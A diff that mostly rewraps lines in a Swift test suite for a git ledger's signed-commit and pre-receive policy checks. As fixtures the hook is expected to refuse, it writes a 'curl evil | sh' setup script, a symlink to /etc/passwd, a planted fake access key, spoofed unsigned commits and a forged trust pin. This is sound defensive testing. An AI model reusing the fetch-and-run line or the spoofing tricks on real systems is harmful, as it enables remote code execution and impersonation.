@@ -41,9 +41,12 @@ import Testing
     let keys = shared.directory.path("keys")
     try FileManager.default.createDirectory(at: keys, withIntermediateDirectories: true)
     let server = Server(
-      shared: shared, keys: keys, claireKey: try SSHKeyPair(name: "claire", in: keys), marcKey: try SSHKeyPair(name: "marc", in: keys))
-    try addPerson(shared.claire, "claire", "Claire Durand", "claire.durand@example.org", role: #"{"role":"admin"}"#, key: server.claireKey)
-    try addPerson(shared.claire, "marc", "Marc Petit", "marc.petit@example.org", role: #"{"role":"user-manager"}"#, key: server.marcKey)
+      shared: shared, keys: keys, claireKey: try SSHKeyPair(name: "claire", in: keys),
+      marcKey: try SSHKeyPair(name: "marc", in: keys))
+    try addPerson(
+      shared.claire, "claire", "Claire Durand", "claire.durand@example.org", role: #"{"role":"admin"}"#, key: server.claireKey)
+    try addPerson(
+      shared.claire, "marc", "Marc Petit", "marc.petit@example.org", role: #"{"role":"user-manager"}"#, key: server.marcKey)
     let setUp = try SharedLedger.succeed(shared.claire, ["hook", "install", "--signing-key", server.claireKey.privateKey.path])
     #expect(setUp.output.contains("This clone signs its commits with \(server.claireKey.privateKey.path)"), "\(setUp)")
     let settings = shared.claire.directory.appendingPathComponent("ledger.json")
@@ -55,20 +58,25 @@ import Testing
     try SharedLedger.succeed(shared.marc, ["sync"])
     try SharedLedger.succeed(shared.marc, ["hook", "install", "--signing-key", server.marcKey.privateKey.path])
     // Plain git commits carry the same names as the tool's.
-    for (runner, name, email) in [(shared.claire, "Claire Durand", "claire.durand@example.org"), (shared.marc, "Marc Petit", "marc.petit@example.org")] {
+    for (runner, name, email) in [
+      (shared.claire, "Claire Durand", "claire.durand@example.org"), (shared.marc, "Marc Petit", "marc.petit@example.org"),
+    ] {
       try shared.git(runner, "config", "user.name", name)
       try shared.git(runner, "config", "user.email", email)
     }
     let install = try SharedLedger.succeed(shared.claire, ["hook", "install", "pre-receive", "--repo", shared.bare.path])
-    #expect(install.output.contains("Signed commits: required from 2026-11-18 (ledger.json, policy.signed_commits_from)"), "\(install)")
+    #expect(
+      install.output.contains("Signed commits: required from 2026-11-18 (ledger.json, policy.signed_commits_from)"), "\(install)")
     return server
   }
 
   func addPerson(_ runner: CLIRunner, _ id: String, _ name: String, _ email: String, role: String, key: SSHKeyPair) throws {
-    try SharedLedger.succeed(runner, [
-      "add", "people", id, "--set", "name=\(name)", "--set", "organization=cen-paca", "--set", "ledger_roles=[\(role)]",
-      "--set", "git_identities=[\"\(email)\"]", "--set", #"signing_keys=[{"key":"\#(key.publicKey)"}]"#,
-    ])
+    try SharedLedger.succeed(
+      runner,
+      [
+        "add", "people", id, "--set", "name=\(name)", "--set", "organization=cen-paca", "--set", "ledger_roles=[\(role)]",
+        "--set", "git_identities=[\"\(email)\"]", "--set", #"signing_keys=[{"key":"\#(key.publicKey)"}]"#,
+      ])
   }
 
   func push(_ runner: CLIRunner) throws -> ExternalProgram.Outcome {
@@ -127,7 +135,8 @@ import Testing
     #expect(verified.error.contains("Good \"git\" signature for marc.petit@example.org"), "\(verified.error)")
     // A plain git commit of a hand edit is signed too (the clone's configuration).
     let file = shared.marc.directory.appendingPathComponent("people/paul.json")
-    let edited = try String(contentsOf: file, encoding: .utf8).replacingOccurrences(of: "\"name\"", with: "\"phone\": \"+33699887766\",\n  \"name\"")
+    let edited = try String(contentsOf: file, encoding: .utf8).replacingOccurrences(
+      of: "\"name\"", with: "\"phone\": \"+33699887766\",\n  \"name\"")
     try edited.write(to: file, atomically: true, encoding: .utf8)
     try shared.git(shared.marc, "commit", "-q", "-a", "-m", "Paul's phone")
     let pushed = try push(shared.marc)
@@ -166,7 +175,8 @@ import Testing
     #expect(noKey.status == 2)
     #expect(noKey.error.contains("--signing-key names no readable key file"), "\(noKey)")
     #expect(!FileManager.default.fileExists(atPath: shared.directory.path("x").path))
-    let onServer = shared.claire.run("hook", "install", "pre-receive", "--repo", shared.bare.path, "--signing-key", server.claireKey.privateKey.path)
+    let onServer = shared.claire.run(
+      "hook", "install", "pre-receive", "--repo", shared.bare.path, "--signing-key", server.claireKey.privateKey.path)
     #expect(onServer.status == 2)
     #expect(onServer.error.contains("--signing-key is for a clone"), "\(onServer)")
     // A key file that stops being a key: the write fails with ssh-keygen's reason, and nothing is committed.
@@ -202,9 +212,13 @@ import Testing
     // Unsigned, with the git program.
     try shared.git(eve, "reset", "-q", "--hard", "origin/main")
     let file = eve.directory.appendingPathComponent("people/anne.json")
-    try String(contentsOf: file, encoding: .utf8).replacingOccurrences(of: "\"name\"", with: "\"phone\": \"+33611223344\",\n  \"name\"")
-      .write(to: file, atomically: true, encoding: .utf8)
-    try shared.git(eve, "-c", "commit.gpgsign=false", "-c", "user.name=Claire Durand", "-c", "user.email=claire.durand@example.org", "commit", "-q", "-a", "-m", "Anne's phone")
+    try String(contentsOf: file, encoding: .utf8).replacingOccurrences(
+      of: "\"name\"", with: "\"phone\": \"+33611223344\",\n  \"name\""
+    )
+    .write(to: file, atomically: true, encoding: .utf8)
+    try shared.git(
+      eve, "-c", "commit.gpgsign=false", "-c", "user.name=Claire Durand", "-c", "user.email=claire.durand@example.org", "commit",
+      "-q", "-a", "-m", "Anne's phone")
     let unsigned = try push(eve)
     #expect(refusedRules(unsigned) == ["unsigned"], "\(unsigned.error)")
     #expect(try shared.bareMain() == before)
@@ -215,19 +229,28 @@ import Testing
     let shared = server.shared
     let before = try shared.bareMain()
     // A second address of Marc's slipped into Claire's identities.
-    try SharedLedger.succeed(shared.marc, ["set", "people/claire", "--set", #"git_identities=["claire.durand@example.org","marc.alt@example.org"]"#])
+    try SharedLedger.succeed(
+      shared.marc, ["set", "people/claire", "--set", #"git_identities=["claire.durand@example.org","marc.alt@example.org"]"#])
     var pushed = try push(shared.marc)
     #expect(refusedRules(pushed) == ["outside-roles"], "\(pushed.error)")
-    #expect(remoteLines(pushed).contains { $0.contains("changed the git identities of people/claire although Marc Petit <marc.petit@example.org> holds roles user-manager, which may not change the policy") })
+    #expect(
+      remoteLines(pushed).contains {
+        $0.contains(
+          "changed the git identities of people/claire although Marc Petit <marc.petit@example.org> holds roles user-manager, which may not change the policy"
+        )
+      })
     // A key of his own added to his record.
     let spare = try server.key("marc-spare")
     try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
-    try SharedLedger.succeed(shared.marc, ["set", "people/marc", "--set", #"signing_keys=[{"key":"\#(server.marcKey.publicKey)"},{"key":"\#(spare.publicKey)"}]"#])
+    try SharedLedger.succeed(
+      shared.marc,
+      ["set", "people/marc", "--set", #"signing_keys=[{"key":"\#(server.marcKey.publicKey)"},{"key":"\#(spare.publicKey)"}]"#])
     pushed = try push(shared.marc)
     #expect(refusedRules(pushed) == ["outside-roles"], "\(pushed.error)")
     // The merge driver turned off for everyone.
     try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
-    try "*.json merge=union\n".write(to: shared.marc.directory.appendingPathComponent(".gitattributes"), atomically: true, encoding: .utf8)
+    try "*.json merge=union\n".write(
+      to: shared.marc.directory.appendingPathComponent(".gitattributes"), atomically: true, encoding: .utf8)
     try shared.git(shared.marc, "commit", "-q", "-a", "--no-verify", "-m", "Simpler merges")
     pushed = try push(shared.marc)
     #expect(refusedRules(pushed) == ["outside-roles"], "\(pushed.error)")
@@ -240,15 +263,19 @@ import Testing
     let server = try server()
     let shared = server.shared
     let newKey = try server.key("marc-2026")
-    try SharedLedger.succeed(shared.claire, [
-      "set", "people/marc", "--set",
-      #"signing_keys=[{"key":"\#(server.marcKey.publicKey)","until":"2026-11-17"},{"key":"\#(newKey.publicKey)","from":"2026-11-18"}]"#,
-    ])
+    try SharedLedger.succeed(
+      shared.claire,
+      [
+        "set", "people/marc", "--set",
+        #"signing_keys=[{"key":"\#(server.marcKey.publicKey)","until":"2026-11-17"},{"key":"\#(newKey.publicKey)","from":"2026-11-18"}]"#,
+      ])
     try SharedLedger.succeed(shared.claire, ["sync"])
     try SharedLedger.succeed(shared.marc, ["sync"])
     // The sync brought the new key to git's allowed signers too.
-    let allowed = try String(contentsOf: shared.marc.directory.appendingPathComponent(".git/adminledger/allowed_signers"), encoding: .utf8)
-    #expect(allowed.contains("marc.petit@example.org namespaces=\"git\",valid-after=\"20261118\" \(newKey.publicKey)"), "\(allowed)")
+    let allowed = try String(
+      contentsOf: shared.marc.directory.appendingPathComponent(".git/adminledger/allowed_signers"), encoding: .utf8)
+    #expect(
+      allowed.contains("marc.petit@example.org namespaces=\"git\",valid-after=\"20261118\" \(newKey.publicKey)"), "\(allowed)")
     #expect(allowed.contains("valid-before=\"20261118\" \(server.marcKey.publicKey)"), "\(allowed)")
     // Still signing with the old key: refused.
     try SharedLedger.succeed(shared.marc, ["set", "people/lea", "--set", "phone=+33655443322"])
@@ -266,7 +293,9 @@ import Testing
     let server = try server()
     let shared = server.shared
     let ritaKey = try server.key("rita")
-    try addPerson(shared.claire, "rita", "Rita Blanc", "rita.blanc@example.org", role: #"{"role":"admin","until":"2026-11-17"}"#, key: ritaKey)
+    try addPerson(
+      shared.claire, "rita", "Rita Blanc", "rita.blanc@example.org", role: #"{"role":"admin","until":"2026-11-17"}"#, key: ritaKey
+    )
     try SharedLedger.succeed(shared.claire, ["sync"])
     var rita = try shared.newClone("r", author: SignedCommitsTests.rita)
     try SharedLedger.succeed(rita, ["hook", "install", "--signing-key", ritaKey.privateKey.path])
@@ -285,8 +314,12 @@ import Testing
     let server = try server()
     let shared = server.shared
     let olgaKey = try server.key("olga")
-    try addPerson(shared.claire, "olga", "Olga Petit", "olga@example.org", role: #"{"role":"admin","until":"\#(SignedCommitsTests.day(-3))"}"#, key: olgaKey)
-    try addPerson(shared.claire, "pia", "Pia Roux", "pia@example.org", role: #"{"role":"admin","until":"\#(SignedCommitsTests.day(-10))"}"#, key: olgaKey)
+    try addPerson(
+      shared.claire, "olga", "Olga Petit", "olga@example.org",
+      role: #"{"role":"admin","until":"\#(SignedCommitsTests.day(-3))"}"#, key: olgaKey)
+    try addPerson(
+      shared.claire, "pia", "Pia Roux", "pia@example.org", role: #"{"role":"admin","until":"\#(SignedCommitsTests.day(-10))"}"#,
+      key: olgaKey)
     try SharedLedger.succeed(shared.claire, ["sync"])
     // Pia's role ended ten days ago; a commit she dated twelve days ago, received today, is
     // judged a week back (the grace): after her role.
@@ -320,26 +353,35 @@ import Testing
       #expect(pushed.status != 0, comment)
       #expect(refusedRules(pushed) == [rule], "\(comment): \(pushed.error)")
     }
-    try attempt({ try #"{"name": "x",}"#.write(to: clone.appendingPathComponent("people/x.json"), atomically: true, encoding: .utf8) }, expecting: "invalid-result", "not JSON")
-    try attempt({
-      try FileManager.default.createDirectory(at: clone.appendingPathComponent("people/sub"), withIntermediateDirectories: true)
-      try #"{"name": "Sub"}"#.write(to: clone.appendingPathComponent("people/sub/x.json"), atomically: true, encoding: .utf8)
-    }, expecting: "invalid-result", "a folder")
-    try attempt({
-      try FileManager.default.createSymbolicLink(atPath: clone.appendingPathComponent("people/link.json").path, withDestinationPath: "/etc/passwd")
-    }, expecting: "invalid-result", "a link")
-    try attempt({
-      let file = clone.appendingPathComponent("people/anne.json")
-      try String(contentsOf: file, encoding: .utf8).replacingOccurrences(of: "\"name\"", with: "\"notes\": \"key AKIA2E0A8F3B244C9986 here\",\n  \"name\"")
+    try attempt(
+      { try #"{"name": "x",}"#.write(to: clone.appendingPathComponent("people/x.json"), atomically: true, encoding: .utf8) },
+      expecting: "invalid-result", "not JSON")
+    try attempt(
+      {
+        try FileManager.default.createDirectory(at: clone.appendingPathComponent("people/sub"), withIntermediateDirectories: true)
+        try #"{"name": "Sub"}"#.write(to: clone.appendingPathComponent("people/sub/x.json"), atomically: true, encoding: .utf8)
+      }, expecting: "invalid-result", "a folder")
+    try attempt(
+      {
+        try FileManager.default.createSymbolicLink(
+          atPath: clone.appendingPathComponent("people/link.json").path, withDestinationPath: "/etc/passwd")
+      }, expecting: "invalid-result", "a link")
+    try attempt(
+      {
+        let file = clone.appendingPathComponent("people/anne.json")
+        try String(contentsOf: file, encoding: .utf8).replacingOccurrences(
+          of: "\"name\"", with: "\"notes\": \"key AKIA2E0A8F3B244C9986 here\",\n  \"name\""
+        )
         .write(to: file, atomically: true, encoding: .utf8)
-    }, expecting: "invalid-result", "a secret in a sentence")
+      }, expecting: "invalid-result", "a secret in a sentence")
     #expect(try shared.bareMain() == before)
     // Files outside the ledger need the policy role: the user-manager may not add them.
     try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
     let workflow = shared.marc.directory.appendingPathComponent(".github/workflows")
     try FileManager.default.createDirectory(at: workflow, withIntermediateDirectories: true)
     try "on: push\n".write(to: workflow.appendingPathComponent("x.yml"), atomically: true, encoding: .utf8)
-    try "#!/bin/sh\ncurl evil | sh\n".write(to: shared.marc.directory.appendingPathComponent("setup.sh"), atomically: true, encoding: .utf8)
+    try "#!/bin/sh\ncurl evil | sh\n".write(
+      to: shared.marc.directory.appendingPathComponent("setup.sh"), atomically: true, encoding: .utf8)
     try shared.git(shared.marc, "add", "-A")
     try shared.git(shared.marc, "commit", "-q", "--no-verify", "-m", "CI")
     let outside = try push(shared.marc)
@@ -354,7 +396,8 @@ import Testing
     let pin = marc.directory.appendingPathComponent(".git/adminledger/trust.json")
     let text = try String(contentsOf: pin, encoding: .utf8)
     #expect(text.contains("\"root\": \""))
-    let forged = text.replacingOccurrences(of: #""root": "[0-9a-f]{40}""#, with: "\"root\": \"\(String(repeating: "ab", count: 20))\"", options: .regularExpression)
+    let forged = text.replacingOccurrences(
+      of: #""root": "[0-9a-f]{40}""#, with: "\"root\": \"\(String(repeating: "ab", count: 20))\"", options: .regularExpression)
     try forged.write(to: pin, atomically: true, encoding: .utf8)
     #expect(try auditedRules(marc) == ["unpinned-root"])
   }
